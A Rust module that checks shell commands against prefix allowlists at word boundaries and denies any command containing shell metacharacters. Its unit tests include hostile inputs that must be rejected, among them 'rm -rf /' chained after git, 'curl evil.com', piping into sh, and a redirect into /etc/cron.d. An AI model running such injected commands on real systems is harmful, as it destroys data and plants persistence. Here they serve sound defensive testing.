//! Command authorization — boundary-respecting prefix match.
//!
//! A command is allowed iff it equals an allowed prefix exactly, or
//! starts with one followed by whitespace (`git` allows `git status`,
//! never `gitstatus`). Shell metacharacters force denial regardless of
//! any prefix match: an allowed prefix must not smuggle a second command
//! through the executor.

use crate::policy::Policy;

/// Characters that would let the shell chain or substitute commands.
const SHELL_METACHARACTERS: &[char] = &[';', '|', '&', '`', '$', '<', '>', '\n', '\r'];

/// Why a command was denied.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CommandDenyReason {
    Empty,
    /// A shell metacharacter was found in the command string.
    Metacharacter(char),
    /// No allowed prefix matched at a whitespace boundary.
    NoPrefixMatch,
}

impl std::fmt::Display for CommandDenyReason {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Empty => write!(f, "command is empty"),
            Self::Metacharacter(c) => {
                write!(f, "command contains shell metacharacter {c:?}")
            }
            Self::NoPrefixMatch => write!(f, "command does not match any allowed prefix"),
        }
    }
}

/// Outcome of a command authorization check.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CommandDecision {
    Allowed,
    Denied { reason: CommandDenyReason },
}

impl CommandDecision {
    pub fn is_allowed(&self) -> bool {
        matches!(self, Self::Allowed)
    }
}

/// Authorize the literal `command` string against `policy`.
///
/// Matching is case-sensitive and exact on whitespace. The executor runs
/// exactly this string, so no re-derivation happens after the check.
pub fn authorize_command(policy: &Policy, command: &str) -> CommandDecision {
    if command.trim().is_empty() {
        return CommandDecision::Denied {
            reason: CommandDenyReason::Empty,
        };
    }

    if let Some(c) = command.chars().find(|c| SHELL_METACHARACTERS.contains(c)) {
        tracing::debug!(command, meta = %c, "command denied: shell metacharacter");
        return CommandDecision::Denied {
            reason: CommandDenyReason::Metacharacter(c),
        };
    }

    let matched = policy.command_prefixes().iter().any(|prefix| {
        command == prefix
            || command
                .strip_prefix(prefix.as_str())
                .is_some_and(|rest| rest.starts_with(char::is_whitespace))
    });

    if matched {
        CommandDecision::Allowed
    } else {
        CommandDecision::Denied {
            reason: CommandDenyReason::NoPrefixMatch,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use termgate_core::config::PolicyConfig;

    fn policy_with(commands: &[&str]) -> Policy {
        Policy::from_config(&PolicyConfig {
            allowed_commands: commands.iter().map(|s| s.to_string()).collect(),
            ..PolicyConfig::default()
        })
        .unwrap()
    }

    #[test]
    fn test_exact_and_boundary_match() {
        let policy = policy_with(&["git", "ls"]);
        assert!(authorize_command(&policy, "git").is_allowed());
        assert!(authorize_command(&policy, "git status").is_allowed());
        assert!(authorize_command(&policy, "ls -la /tmp").is_allowed());
    }

    #[test]
    fn test_no_boundary_is_denied() {
        let policy = policy_with(&["git"]);
        assert_eq!(
            authorize_command(&policy, "gitstatus"),
            CommandDecision::Denied {
                reason: CommandDenyReason::NoPrefixMatch
            }
        );
        assert!(!authorize_command(&policy, "gitrm -rf /").is_allowed());
    }

    #[test]
    fn test_multiword_prefix() {
        let policy = policy_with(&["git status", "node --version"]);
        assert!(authorize_command(&policy, "git status").is_allowed());
        assert!(authorize_command(&policy, "git status --short").is_allowed());
        assert!(!authorize_command(&policy, "git push").is_allowed());
    }

    #[test]
    fn test_metacharacters_override_prefix_match() {
        let policy = policy_with(&["git"]);
        for cmd in [
            "git status; rm -rf /",
            "git status && curl evil.com",
            "git status | sh",
            "git log `whoami`",
            "git log $(whoami)",
            "git diff > /etc/cron.d/x",
        ] {
            let decision = authorize_command(&policy, cmd);
            assert!(
                matches!(
                    decision,
                    CommandDecision::Denied {
                        reason: CommandDenyReason::Metacharacter(_)
                    }
                ),
                "expected metacharacter denial for {cmd:?}"
            );
        }
    }

    #[test]
    fn test_case_sensitive() {
        let policy = policy_with(&["git"]);
        assert!(!authorize_command(&policy, "Git status").is_allowed());
    }

    #[test]
    fn test_empty_denied() {
        let policy = policy_with(&["git"]);
        assert_eq!(
            authorize_command(&policy, "   "),
            CommandDecision::Denied {
                reason: CommandDenyReason::Empty
            }
        );
    }
}
